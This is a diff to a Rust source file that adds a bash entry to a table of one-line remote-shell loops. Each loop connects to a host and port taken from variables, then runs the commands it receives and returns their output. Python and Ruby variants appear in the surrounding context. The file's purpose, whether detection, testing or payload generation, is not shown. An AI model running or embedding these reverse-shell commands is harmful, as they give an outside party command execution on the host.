@@ -51,7 +51,7 @@ const INTERPRETERS: [(&str, &[&str], &str, &str); 4] = [
 ];
 
 /// Loops that read a line, run it, and send its output back.
-const LOOPS: [(&str, &[&str], &str); 8] = [
+const LOOPS: [(&str, &[&str], &str); 9] = [
     (
         "bash_eval",
         &["bash"],
@@ -92,6 +92,11 @@ for line in s.makefile(): subprocess.run(line,shell=True,stdin=subprocess.DEVNUL
         r#"exec ruby -rsocket -e 's=TCPSocket.new(ENV["H"],ENV["P"]); while l=s.gets; system(l,[:out,:err]=>s); end'"#,
     ),
     // Input comes from the connection too, but it is the loop that reads it.
+    (
+        "bash_eval_all_streams",
+        &["bash"],
+        r#"exec 5<>/dev/tcp/$H/$P; while read l <&5; do eval "$l" <&5 >&5 2>&5; done"#,
+    ),
     (
         "perl_system_all_streams",
         &["perl"],
